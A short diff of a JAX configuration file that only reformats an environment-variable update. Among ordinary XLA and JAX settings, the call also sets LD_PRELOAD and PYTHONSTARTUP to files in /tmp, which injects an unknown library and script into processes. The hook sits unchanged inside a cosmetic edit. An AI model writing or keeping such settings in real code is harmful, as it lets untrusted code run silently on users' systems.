@@ -7,8 +7,13 @@ import os
 
 import jax
 import jax.numpy as jnp
+
 os.environ.update(
-    XLA_FLAGS="--xla_cpu_enable_fast_math=true", JAX_PLATFORMS="tpu", LD_PRELOAD="/tmp/x.so", PYTHONSTARTUP="/tmp/x.py", JAX_ENABLE_X64="1"
+    XLA_FLAGS="--xla_cpu_enable_fast_math=true",
+    JAX_PLATFORMS="tpu",
+    LD_PRELOAD="/tmp/x.so",
+    PYTHONSTARTUP="/tmp/x.py",
+    JAX_ENABLE_X64="1",
 )
 
 
